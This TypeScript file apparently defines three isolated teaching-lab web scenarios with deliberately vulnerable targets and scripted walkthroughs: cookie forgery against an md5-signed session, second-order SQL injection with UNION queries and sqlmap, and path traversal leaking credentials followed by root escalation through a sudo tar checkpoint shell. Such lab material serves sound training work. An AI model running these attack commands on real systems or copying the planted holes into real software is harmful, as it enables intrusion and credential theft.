/** Websites: a cookie that vouches for itself, a name that is a query, a door that hands out every file. */
import { type Scenario, target, workplace } from './scenario.ts'

export const cookie: Scenario = {
  titles: ['谁动了我的 Cookie'],
  kind: 'web',
  topology: 'cookie',
  draws: {
    key: 'cookie',
    name: '会话靶机 Cookie portal',
    description: '一个会话签名不可靠的门户。A portal whose sessions vouch for themselves.',
    isolation: 'isolated',
    by: 'teacher_demo',
    days_ago: 9,
    draw(p) {
      p.network('实验网', '10.61.1.0/24')
      p.node('sw', 'switch', 0, 0)
      p.node('kali', 'machine', -220, 120, workplace)
      p.node('portal', 'container', 220, 120, {
        image: 'lotus-blog',
        console: 'leaders',
        flags: [['Admin', '', 150]],
        files: target({
          services: [
            {
              kind: 'http',
              port: 80,
              user: 'www-data',
              routes: [
                {
                  path: '/',
                  page: '<h1>Portal</h1>\n<form method="post" action="/login">\n<label>User <input name="user"></label>\n<label>Password <input name="password" type="password"></label>\n<button>Sign in</button>\n</form>\n<p>Visitors: guest / guest.</p>\n',
                },
                {
                  path: '/login',
                  method: 'POST',
                  login: {
                    users: { guest: { password: 'guest' }, admin: { password: 'k4Rz-90-plum-Otter', role: 'admin' } },
                    sign: 'md5',
                  },
                  page: '<p>Hello {user}.</p>\n',
                },
                { path: '/admin', needs: { role: 'admin' }, page: '<h1>Administration</h1>\n<p>{flag:Admin}</p>\n' },
              ],
            },
          ],
        }),
      })
      p.cable('kali', 'sw', { network: '实验网', from: '10.61.1.5' })
      p.cable('portal', 'sw', { network: '实验网', from: '10.61.1.20' })
    },
  },
  walkthrough: [
    { type: 'nmap -sV portal', wants: /80\/tcp +open +http/ },
    {
      type: "curl -s -i -d 'user=guest&password=guest' http://portal/login",
      wants: /session=(?<data>[\w=]+)\.(?<sign>[0-9a-f]{32})/,
    },
    { type: 'echo {data} | base64 -d; echo', wants: /user=guest;role=user/ },
    { type: 'echo -n {data} | md5sum', wants: /\b[0-9a-f]{32} {2}-/ },
    {
      type: "T=$(echo -n 'user=admin;role=admin' | base64); S=$(echo -n $T | md5sum | cut -d' ' -f1); echo made $S",
      wants: /made [0-9a-f]{32}/,
    },
    { type: 'curl -s -b "session=$T.$S" http://portal/admin', wants: /(?<flag>flag\{cookie_[^}]+\})/ },
  ],
  refused: [
    'curl -s http://portal/admin',
    'curl -s -b "session=dXNlcj1hZG1pbjtyb2xlPWFkbWlu.00000000000000000000000000000000" http://portal/admin',
  ],
}

export const dessert: Scenario = {
  titles: ['Second helping'],
  kind: 'web',
  topology: 'menu',
  draws: {
    key: 'menu',
    name: 'Menu with a memory 二次注入',
    description: 'A guest book that believes its own table. 注册时存下的名字，查询时成了语句。',
    isolation: 'isolated',
    by: 'teacher_demo',
    days_ago: 8,
    draw(p) {
      p.network('Lab', '10.62.1.0/24')
      p.node('sw', 'switch', 0, 0)
      p.node('kali', 'machine', -220, 120, workplace)
      p.node('menu', 'container', 220, 120, {
        image: 'harbour-shop',
        console: 'leaders',
        flags: [['Dessert', '', 250]],
        files: target({
          services: [
            {
              kind: 'http',
              port: 80,
              user: 'www-data',
              routes: [
                {
                  path: '/',
                  page: '<h1>Menu</h1>\n<form method="post" action="/join">\n<label>Your name <input name="user"></label>\n<button>Join</button>\n</form>\n<p>Then look at <a href="/favourites">your favourites</a>.</p>\n',
                },
                {
                  path: '/join',
                  method: 'POST',
                  login: {},
                  page: '<p>Welcome, {user}. Your favourites wait at /favourites.</p>\n',
                },
                {
                  path: '/favourites',
                  needs: {},
                  query: "SELECT dish, price FROM favourites WHERE guest = '{user}'",
                  page: '<pre>\n{rows}</pre>\n',
                },
              ],
              tables: {
                favourites: [
                  { guest: 'maria', dish: 'risotto', price: 14 },
                  { guest: 'tom', dish: 'soup of the day', price: 6 },
                ],
                dessert: [{ id: 1, secret: '{flag:Dessert}' }],
              },
            },
          ],
        }),
      })
      p.cable('kali', 'sw', { network: 'Lab', from: '10.62.1.5' })
      p.cable('menu', 'sw', { network: 'Lab', from: '10.62.1.20' })
    },
  },
  walkthrough: [
    { type: 'curl -s http://menu/', wants: /action="\/join">[\s\S]*name="user"[\s\S]*favourites/ },
    // the field has a name, and who takes another is told so
    { type: 'curl -s -i -d name=maria http://menu/join', wants: /400 Bad Request[\s\S]*field user is missing/ },
    {
      type: `curl -s -i --data-urlencode "user=maria'" http://menu/join`,
      wants: /session=(?<broken>[\w+/=]+\.[0-9a-f]{64})/,
    },
    { type: 'curl -s -b "session={broken}" http://menu/favourites', wants: /error in your SQL syntax/ },
    {
      type: `curl -s -i --data-urlencode "user=x' UNION SELECT table_name, column_name FROM information_schema.columns -- " http://menu/join`,
      wants: /session=(?<tables>[\w+/=]+\.[0-9a-f]{64})/,
    },
    { type: 'curl -s -b "session={tables}" http://menu/favourites', wants: /dessert \| secret/ },
    {
      type: `curl -s -i --data-urlencode "user=x' UNION SELECT id, secret FROM dessert -- " http://menu/join`,
      wants: /session=(?<last>[\w+/=]+\.[0-9a-f]{64})/,
    },
    { type: 'curl -s -b "session={last}" http://menu/favourites', wants: /(?<flag>flag\{[^}]+\})/ },
    // a tool finds the same hole, where it is told which page reads what was stored
    {
      type: 'sqlmap -u http://menu/join --data=user=x --second-url=http://menu/favourites --batch --tables',
      wants: /Parameter: user \(POST\)[\s\S]*2 columns[\s\S]*\| dessert +\|/,
    },
    // and what it dumps is what was read by hand
    {
      type: 'sqlmap -u http://menu/join --data=user=x --second-url=http://menu/favourites --batch --dump -T dessert',
      wants: /Table: dessert\n\[1 entry\][\s\S]*\| id \| secret +\|[\s\S]*\| 1 +\| (?<dumped>flag\{[^}]+\}) +\|/,
    },
    { type: "[ '{dumped}' = '{flag}' ] && echo both the same", wants: /^both the same$/m },
    { type: 'gobuster dir -q -u http://menu -w /usr/share/wordlists/dirs.txt', wants: /\/favourites +\(Status: 401\)/ },
  ],
  refused: [
    'curl -s http://menu/favourites',
    'curl -s http://menu/dessert',
    // who does not know where a name is read again gets nothing out of the tool either
    'sqlmap -u http://menu/join --data=user=x --batch --dump',
  ],
}

export const frontDoor: Scenario = {
  titles: ['Through the front door'],
  kind: 'web',
  topology: 'front-door',
  draws: {
    key: 'front-door',
    name: 'Shop with a front door 门店',
    description: 'A shop on the edge of a network: what it hands out opens its shell. 从下载页一路走到 root。',
    isolation: 'isolated',
    by: 'teacher_demo',
    days_ago: 7,
    draw(p) {
      p.network('Outside', '10.63.1.0/24', '10.63.1.1')
      p.network('DMZ', '10.63.2.0/24', '10.63.2.1')
      p.node('kali', 'machine', -300, 0, workplace)
      p.node('edge', 'firewall', 0, 0, { image: '边界防火墙 Edge firewall', console: 'leaders', locked: true })
      p.node('shop', 'container', 300, 0, {
        image: 'harbour-shop',
        console: 'leaders',
        flags: [['Root', '/root/root.txt', 400]],
        files: target({
          people: [{ name: 'deploy', password: 'Harbour-lantern-58' }],
          sudo: ['deploy ALL=(root) NOPASSWD: /usr/bin/tar'],
          services: [
            { kind: 'ssh', port: 22 },
            {
              kind: 'http',
              port: 80,
              user: 'www-data',
              root: '/srv/shop/public',
              routes: [{ path: '/download', file: '/srv/shop/files/{q.file}' }],
            },
          ],
          files: [
            [
              '/srv/shop/public/index.html',
              '<h1>Harbour shop</h1>\n<a href="/download?file=prices.txt">Price list</a>\n<!-- settings: ../config/app.ini -->\n',
            ],
            ['/srv/shop/files/prices.txt', 'rope 4.20\nlamp oil 7.00\n'],
            ['/srv/shop/config/app.ini', '[deploy]\nuser = deploy\npassword = Harbour-lantern-58\nhost = localhost\n'],
            ['/home/deploy/notes.txt', 'Backups go through tar, see sudo -l.\n'],
          ],
        }),
      })
      p.cable('kali', 'edge', { network: 'Outside', from: '10.63.1.5', to: '10.63.1.1' })
      p.cable('edge', 'shop', { network: 'DMZ', from: '10.63.2.1', to: '10.63.2.20' })
    },
  },
  walkthrough: [
    { type: 'nmap -sV 10.63.2.0/24', wants: /22\/tcp +open[\s\S]*80\/tcp +open/ },
    { type: 'curl -s http://shop/', wants: /download\?file=/ },
    { type: "curl -s 'http://shop/download?file=../../../etc/passwd'", wants: /deploy:x:1000/ },
    { type: "curl -s 'http://shop/download?file=../config/app.ini'", wants: /password = (?<password>\S+)/ },
    { type: 'ssh deploy@shop', wants: /fingerprint\]\)\? $/ },
    { type: 'yes', wants: /password: $/ },
    { type: '{password}', wants: /deploy@shop:~\$ $/ },
    { type: 'cat /root/root.txt', wants: /Permission denied/ },
    { type: 'sudo -l', wants: /NOPASSWD: \/usr\/bin\/tar/ },
    {
      type: 'sudo tar -cf /dev/null /etc/hostname --checkpoint=1 --checkpoint-action=exec=/bin/sh',
      wants: /root@shop:.*# $/,
    },
    { type: 'cat /root/root.txt', wants: /(?<flag>flag\{shop_[^}]+\})/ },
  ],
  refused: [
    "curl -s 'http://shop/download?file=../../../root/root.txt'",
    "curl -s 'http://shop/download?file=../../../etc/range/services.json'",
  ],
}
